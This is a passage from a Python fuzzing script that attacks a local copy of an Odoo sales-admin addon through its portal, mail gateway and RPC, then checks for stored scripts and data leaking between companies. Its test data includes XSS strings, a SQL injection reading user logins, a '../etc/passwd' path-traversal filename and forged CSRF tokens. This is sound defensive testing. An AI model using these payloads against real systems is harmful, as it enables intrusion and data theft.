                    "description": rng.choice(SCRIPTS),
                },
            ),
            ("wrong_type", {"title": "x", "ticket_type_id": rng.choice(["abc", "1.5", "[1]", "99999999999999999999"])}),
            ("sql_injection", {"title": rng.choice(SQLI), "ticket_type_id": rng.choice(SQLI)}),
            (
                "other_customer_id",
                {
                    "title": "Mine now",
                    "ticket_type_id": self.setup["companies"][company]["ticket_type"],
                    "sale_order_id": rng.choice(orders_foreign),
                },
            ),
            ("nonexistent_id", {"title": "Ghost", "ticket_type_id": BIG_ID}),
            (
                "bad_selection",
                {
                    "title": "Sneaky",
                    "ticket_type_id": self.setup["companies"][company]["ticket_type"],
                    "channel": "__evil__",
                    "partner_id": stranger["partner"],
                    "company_id": 99,
                    "stage_id": 4,
                    "user_id": 2,
                },
            ),
        ]
        for kind, method, path, data, expect in calls:
            self.portal_call(client, kind, method, path, data, leak, expect)
        for kind, form in rng.sample(form_cases, k=rng.choice([4, 5, 6])):
            self.portal_call(client, kind, "POST", "/my/requests/new", dict(form, csrf_token=token), leak, True)
        # CSRF: none, forged, another session's
        self.portal_call(client, "csrf", "POST", "/my/requests/new", {"title": "No token", "ticket_type_id": 1}, leak)
        self.portal_call(
            client,
            "csrf",
            "POST",
            "/my/requests/new",
            {"title": "Forged", "ticket_type_id": 1, "csrf_token": rng.choice(["x", "0" * 40 + "o1"])},
            leak,
        )

    # ----------------------------------------------------------------------------------------------- mail
    def mail_message(self, index):
        rng, alias = self.rng, self.setup["alias"]
        company = rng.choice(["A", "B"])
        customer = rng.choice(self.setup["companies"][company]["customers"])
        senders = [
            ("unknown", f"Stranger {index} <stranger{index}@nowhere.example>"),
            (
                "known",
                f"contact{company.lower()}{1 + self.setup['companies'][company]['customers'].index(customer)}"
                "@fuzz-customer.example",
            ),
            ("broken", rng.choice(["<<<>>>", '"unterminated <x@y', "", "=?x-unknown?Q?abc?= <a@b>", "@@@"])),
        ]
        sender_kind, sender = rng.choice(senders)
        subject = rng.choice(
            [
                "Where is my order?",
                "A" * rng.choice([300, MB]),
                rng.choice(SCRIPTS),
                "=?utf-8?B?" + "z" * 100 + "?=",
                "\u202eevil\u0000nul",
                rng.choice(SQLI),
            ]
        )
        body_kind = rng.choice(["html", "text", "huge", "multipart_broken", "bad_charset", "attachment"])
        headers = {
            "From": sender,
            "To": rng.choice([alias, f"Requests <{alias}>", f"{alias}, other@fuzz.example"]),
            "Subject": subject,
            "Message-Id": rng.choice([f"<fuzz-{self.args.seed}-{index}@evil.example>", "", "<dup@evil.example>"]),
            "Date": rng.choice(
                [
                    "Sat, 28 Nov 2026 10:00:00 +0000",
                    "Mon, 30 Feb 2026 25:61:00 +9999",
                    "yesterday",
                    "Fri, 31 Dec 9999 23:59:59 +0000",
                    "Sun, 01 Jan 0000 00:00:00 +0000",
                ]
            ),
        }
        kind = "html_script" if subject in SCRIPTS else ("huge_string" if len(subject) > 1000 else "wrong_type")
        if rng.random() < 0.3:
            # a reply quoting another company's ticket
            other_ticket = self.setup["companies"][self.other(company)]["customers"][0]["ticket"]
            ref = sql(
                self.db,
                "SELECT message_id FROM mail_message WHERE model = 'sales_admin.ticket' AND res_id = %s "
                "AND message_id IS NOT NULL ORDER BY id LIMIT 1",
                (other_ticket,),
            )
            if ref:
                headers["In-Reply-To"] = ref[0][0]
                headers["References"] = ref[0][0]
                kind = "other_company_id"
        if rng.random() < 0.15:
            headers["Content-Type"] = rng.choice(['text/plain; charset="x-evil"', "multipart/mixed", "garbage/;;;"])
        if body_kind == "html":
            body = "<html><body>" + rng.choice(SCRIPTS) + "<p>Please help</p></body></html>"
            headers.setdefault("Content-Type", "text/html; charset=utf-8")
            kind = "html_script"
        elif body_kind == "huge":
            body = "B" * MB
            kind = "huge_string"
        elif body_kind == "multipart_broken":
            headers["Content-Type"] = 'multipart/alternative; boundary="XYZ"'
            body = "--XYZ\nContent-Type: text/html\n\n<script>alert(1)</script>\n--XY"
            kind = "html_script"
        elif body_kind == "bad_charset":
            headers["Content-Type"] = "text/plain; charset=unknown-8bit"
            headers["Content-Transfer-Encoding"] = rng.choice(["base64", "quoted-printable", "x-evil"])
            body = "====\n!!!not base64!!!\n=ZZ"
            kind = "wrong_type"
        elif body_kind == "attachment":
            headers["Content-Type"] = 'multipart/mixed; boundary="B1"'
            name = rng.choice(["../../../../etc/passwd", "<script>.html", "a" * 5000 + ".pdf", "evil\x00.exe"])
            body = (
                "--B1\nContent-Type: text/plain\n\nsee attached\n--B1\nContent-Type: text/html\n"
                f'Content-Disposition: attachment; filename="{name}"\n\n<script>alert(9)</script>\n--B1--\n'
            )
            kind = "html_script"
        else:
            body = "Plain request " + rng.choice(SQLI)
        raw = "".join(f"{key}: {value}\n" for key, value in headers.items() if value != "" or key == "From")
        return kind, sender_kind, raw + "\n" + body

    def mail_calls(self, count):
        mailgate = [self.admin] + [c for c in self.clients.values() if c.role in ("sa_user", "receptionist")]
        for index in range(count):
            kind, sender_kind, raw = self.mail_message(index)
            client = mailgate[0] if self.rng.random() < 0.7 else self.rng.choice(mailgate)
            if self.rng.random() < 0.2:
                other_ticket = self.setup["companies"][self.other(client.company)]["customers"][1]["ticket"]
                args, kwargs = ["sales_admin.ticket", raw], {"thread_id": other_ticket}
                kind = "other_company_id"
            else:
                args, kwargs = [False, raw], {}
            call = {"channel": "mail", "kind": kind, "op": f"message_process ({sender_kind} sender)"}
            before = sql(self.db, "SELECT coalesce(max(id), 0) FROM sales_admin_ticket")[0][0]
            entry = self.send_rpc(call, client, "mail.thread", "message_process", args, kwargs)
            if entry["outcome"] == "ok":
                # a ticket made by the gateway: no script stored, its contact of its own company
                rows = sql(
                    self.db,
                    "SELECT t.id, t.company_id, c.company_id, t.description FROM sales_admin_ticket t "
                    "LEFT JOIN res_partner c ON c.id = t.contact_id WHERE t.id > %s",
                    (before,),
                )
                for ticket_id, company, contact_company, description in rows:
                    if contact_company and contact_company != company:
                        entry["leak"] = f"ticket {ticket_id} of company {company} with contact of {contact_company}"
                    if description and any(m in description.lower() for m in SCRIPT_MARKERS):
                        entry["leak"] = f"ticket {ticket_id} stores a script in its description"

    # ----------------------------------------------------------------------------------------------- run
    def run(self, public_methods):
        rng = self.rng
        internal = [c for c in self.clients.values() if c.login != "anonymous"]
        rpc_users = [c for c in internal]
        # CRUD: every user, every model, --crud-per-pair calls each
        for client in rpc_users:
            for model in CRUD_MODELS:
                for _ in range(self.args.crud_per_pair):
                    self.crud_calls(client, model)
        # public methods: each one by two users of the app, one of each company
        app_users = [c for c in internal if c.role in ("sa_manager", "sa_user", "salesman", "billing")]
        for model, methods in sorted(public_methods.items()):
            for method in sorted(methods):
                for client in rng.sample(app_users, k=2):
                    self.method_calls(client, model, method)
        # wizards: each by four users
        for wizard in sorted(WIZARDS):
            for client in rng.sample(app_users, k=4):
                self.wizard_calls(client, wizard)
        # portal: every portal user, the receptionists, anonymous
        for client in self.clients.values():
            if client.role.startswith("portal") or client.role in ("receptionist", "anonymous"):
                self.portal_calls(client)
        self.mail_calls(self.args.mail_calls)
        self.core_control_calls()

    def core_control_calls(self):
        """The same hostile payloads on Odoo's own models and routes (no code of ours): what they give is Odoo's
        behaviour, the evidence for the server errors listed as Odoo's."""
        client = next(c for c in self.clients.values() if c.role == "sa_manager" and c.company == "A")
        order = self.setup["companies"]["A"]["customers"][0]["order"]
        cases = [
            ("wrong_type", "res.country", "search_read", [], {"domain": "not a domain", "fields": ["id"]}),
            ("impossible_date", "res.country", "search_read", [], {"domain": [("create_date", ">", "2026-13-45")]}),
            ("impossible_date", "res.country", "search_read", [], {"domain": [("create_date", ">", "")]}),
            ("bad_number", "res.country", "search_read", [], {"domain": [], "limit": -5}),
            ("sql_injection", "res.country", "read", [["' UNION SELECT login FROM res_users --"], ["name"]], {}),
            ("wrong_type", "sale.order", "action_cancel", [["x"]], {}),
            ("wrong_type", "sale.order", "action_draft", [[[1]]], {}),
            ("bad_number", "res.partner.category", "create", [{"name": "x", "color": 2**40}], {}),
            ("bad_number", "res.partner", "write", [[client.uid and 3], {"partner_latitude": float("inf")}], {}),
            ("wrong_type", "res.partner.category", "create", [{"name": "x", "color": "abc"}], {}),
            ("missing_required", "sale.order", "write", [[order], {"picking_policy": False}], {}),
            ("wrong_type", "res.partner", "write", [[3], {"comment": ["a"]}], {}),
        ]
        for kind, model, method, args, kwargs in cases:
            self.send_rpc(
                {"channel": "core_control", "kind": kind, "op": "core control"}, client, model, method, args, kwargs
            )
        raw = (
            "From: a@b.example\nTo: x@fuzz.example\nSubject: core\nContent-Type: text/plain; charset=unknown-8bit\n\nhi"
        )
        self.send_rpc(
            {"channel": "core_control", "kind": "wrong_type", "op": "core control"},
            self.admin,
            "mail.thread",
            "message_process",
            ["res.partner", raw],
            {},
        )
        self.portal_call(self.clients["anonymous"], "wrong_type", "GET", "/web/nonexistent%00")
        self.results[-1]["channel"] = "core_control"

    def final_checks(self):
        """Stored HTML of our models and of the messages: no script, event handler or javascript: link may survive
        sanitizing (parsed with lxml: escaped text that merely mentions them is harmless)."""
        findings = []
        html_columns = sql(
            self.db,
            "SELECT f.model, f.name FROM ir_model_fields f WHERE f.ttype = 'html' AND f.store AND "
            "(f.model LIKE 'sales_admin.%%' OR f.model = 'mail.message')",
        )
        for model, name in html_columns:
            table = model.replace(".", "_")
            if not sql(
                self.db,
                "SELECT 1 FROM information_schema.columns WHERE table_name = %s AND column_name = %s",
                (table, name),
            ):
                continue
            condition = " OR ".join(f'lower("{name}"::text) LIKE %s' for _ in SCRIPT_MARKERS)
            rows = sql(
                self.db,
                f'SELECT id, "{name}"::text FROM "{table}" WHERE {condition}',  # noqa: S608 (names from ir.model.fields)
                [f"%{m}%" for m in SCRIPT_MARKERS],
            )
            bad = [record_id for record_id, value in rows if dangerous_html(value)]
            if bad:
                findings.append(f"{model}.{name}: script in ids {bad[:20]}")
        return findings + cross_company_links(self.db, self.started_at)


def cross_company_links(db, since):
    """Records of our models written since ``since`` (the run's start) that point, through a many2one, to a record of
    another company: ``["model.field: ids [...]"]``."""
    findings = []
    fields = sql(
        db,
        "SELECT f.model, f.name, f.relation FROM ir_model_fields f WHERE f.ttype = 'many2one' AND f.store "
        "AND NOT coalesce(f.company_dependent, false) AND f.name NOT IN ('create_uid', 'write_uid', 'company_id') "
        "AND f.model = ANY(%s) ORDER BY 1, 2",
        (CRUD_MODELS + list(WIZARDS),),
    )
    for model, name, relation in fields:
        table, comodel_table = model.replace(".", "_"), relation.replace(".", "_")
        columns = {
            row[0]
            for row in sql(
                db,
                "SELECT table_name || '.' || column_name FROM information_schema.columns WHERE table_name IN (%s, %s) "
                "AND column_name IN ('company_id', 'write_date', %s)",
                (table, comodel_table, name),
            )
        }
        if not {f"{table}.company_id", f"{table}.{name}", f"{comodel_table}.company_id"} <= columns:
            continue
        rows = sql(
            db,
            f'SELECT r.id FROM "{table}" r JOIN "{comodel_table}" c ON c.id = r."{name}" '  # noqa: S608 (ir.model.fields)
            "WHERE r.write_date >= %s AND c.company_id IS NOT NULL AND r.company_id IS NOT NULL "
            "AND c.company_id != r.company_id"
            # a user belongs to several companies: only one not allowed in the record's company is foreign
            + (
                " AND NOT EXISTS (SELECT 1 FROM res_company_users_rel u"
                " WHERE u.user_id = c.id AND u.cid = r.company_id)"
                if relation == "res.users"
                else ""
            ),
            (since,),
        )
        if rows:
            findings.append(f"{model}.{name} -> {relation} of another company: ids {[r[0] for r in rows][:20]}")
    return findings


def dangerous_html(value):
    """Whether the stored HTML has a script element, an event handler attribute or a javascript: link."""
    if value and value.startswith("{"):
        # a translated html field: its values
        try:
            return any(dangerous_html(text) for text in json.loads(value).values())
        except ValueError:
            pass
    try:
        root = lxml.html.fromstring(value or "<p></p>")
    except (ValueError, lxml.etree.ParserError):
        return False
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in ("script", "iframe", "object", "embed"):
            return True
        for attribute, attribute_value in element.attrib.items():
            if attribute.lower().startswith("on") or "javascript:" in attribute_value.replace(" ", "").lower():
                return True
    return False


def load_public_methods():
    tree = ast.parse((REPO_ROOT / "tests" / "test_rpc_access.py").read_text(encoding="utf-8"))
    for node in tree.body:
        if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == "PUBLIC_METHODS":
            listed = ast.literal_eval(node.value)
            break
    else:
        sys.exit("PUBLIC_METHODS not found in tests/test_rpc_access.py")
    return {
        model: [method for method, kind in methods.items() if kind in ("company", "open") or kind.startswith("tests/")]
        for model, methods in listed.items()
    }


def summary(results, html_findings, args, elapsed, load):
    by = collections.defaultdict(collections.Counter)
    for entry in results:
        for dimension in ("channel", "role", "kind"):
            by[dimension][(entry[dimension], entry["outcome"])] += 1
    outcomes = ["ok", "refused", "core_refused", "unclear_refusal", "server_error"]
    lines = [
        f"Database {args.database} (copy of {args.source}), seed {args.seed}, {args.workers} workers, "
        f"{len(results)} calls in {elapsed:.0f} s, load average before/after: {load[0]} / {load[1]}",
        "",
    ]
    for dimension in ("channel", "role", "kind"):
        keys = sorted({key for key, _ in by[dimension]})
        lines.append(f"| {dimension} | " + " | ".join(outcomes) + " | partial writes | leaks |")
        lines.append("|---" * (len(outcomes) + 3) + "|")
        for key in keys:
            partial = sum(1 for e in results if e[dimension] == key and e["partial_write"])
            leaks = sum(1 for e in results if e[dimension] == key and e["leak"])
            counts = " | ".join(str(by[dimension][(key, o)]) for o in outcomes)
            lines.append(f"| {key} | {counts} | {partial} | {leaks} |")
        lines.append("")
    total = collections.Counter(e["outcome"] for e in results)
    lines.append(
        "Totals: "
        + ", ".join(f"{o} {total[o]}" for o in outcomes)
        + f", partial writes {sum(e['partial_write'] for e in results)}"
        + f", leaks {sum(bool(e['leak']) for e in results)}"
        + f", stored scripts and cross-company links {len(html_findings)}"
    )
    problems = [
        e for e in results if e["outcome"] in ("server_error", "unclear_refusal") or e["partial_write"] or e["leak"]
    ]
    ours = [
        e
        for e in problems
        if e["channel"] != "core_control"
        and (
            e["partial_write"]
            or e["leak"]
            or e["outcome"] == "unclear_refusal"
            or e.get("origin", "").startswith("addon")
        )
    ]
    lines.append(
        f"Server errors: {total['server_error']}, of which raised in our code: "
        f"{sum(1 for e in ours if e['outcome'] == 'server_error')}; "
        f"core control calls: {sum(1 for e in results if e['channel'] == 'core_control')}"
    )
    if problems:
        lines.append("")
        lines.append("Problems:")
        for entry in problems[:60]:
            lines.append(
                f"- #{entry['n']} {entry['channel']} {entry['role']}/{entry['company']} {entry['kind']} "
                f"{entry.get('model', '')}.{entry.get('method', '')} {entry['op']}: {entry['outcome']} "
                f"{entry['exception']} {entry['message'][:160]!r} origin={entry.get('origin', '')!r} "
                f"changed={entry['changed']} leak={entry['leak']!r}"
            )
    for finding in html_findings:
        lines.append(f"- stored data: {finding}")
    refusal_classes = collections.Counter(
        e["exception"] for e in results if e["outcome"] in ("refused", "core_refused")
    )
    lines.append("")
    lines.append("Refusals by exception: " + ", ".join(f"{k} {v}" for k, v in refusal_classes.most_common()))
    return "\n".join(lines), bool(ours or html_findings)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument(
        "--source",
        default=os.environ.get("FUZZ_SOURCE", "sales_admin_demo"),
        help="database with the addon and demo data to copy (default: $FUZZ_SOURCE or %(default)s, the database "
        "of make run; made with -i sales_admin_addon when missing)",
    )
    parser.add_argument("-d", "--database", default=os.environ.get("FUZZ_DB", "sales_admin_fuzz"))
    parser.add_argument("--reuse", action="store_true", help="keep the database (set up by an earlier run)")
    parser.add_argument("--port", type=int, default=int(os.environ.get("FUZZ_PORT", "8284")))
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--seed", type=int, default=int(os.environ.get("FUZZ_SEED", "10")))
    parser.add_argument("--crud-per-pair", type=int, default=6, help="calls per (user, model) (default 6)")
    parser.add_argument("--mail-calls", type=int, default=120)
    parser.add_argument("--out", default=None, help="JSON of every call (default /tmp/<database>_fuzz.json)")
    args = parser.parse_args()
    args.setup_file = f"/tmp/{args.database}_setup.json"
    args.server_log = f"/tmp/{args.database}_server.log"
    args.out = args.out or f"/tmp/{args.database}_fuzz.json"
    if not args.reuse or not Path(args.setup_file).exists():
        prepare_database(args)
    setup = json.loads(Path(args.setup_file).read_text(encoding="utf-8"))
    load_before = os.getloadavg()[0]
    proc, url = start_server(args)
    started = time.monotonic()
    try:
        fuzzer = Fuzzer(args, setup, url)
        fuzzer.run(load_public_methods())
        html_findings = fuzzer.final_checks()
    finally:
        proc.terminate()
        proc.wait(timeout=60)
    elapsed = time.monotonic() - started
    text, failed = summary(
        fuzzer.results, html_findings, args, elapsed, (f"{load_before:.2f}", f"{os.getloadavg()[0]:.2f}")
    )
    Path(args.out).write_text(json.dumps(fuzzer.results, indent=1, default=str), encoding="utf-8")
    print(text)
    print(f"\nEvery call: {args.out}; server log: {args.server_log}")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
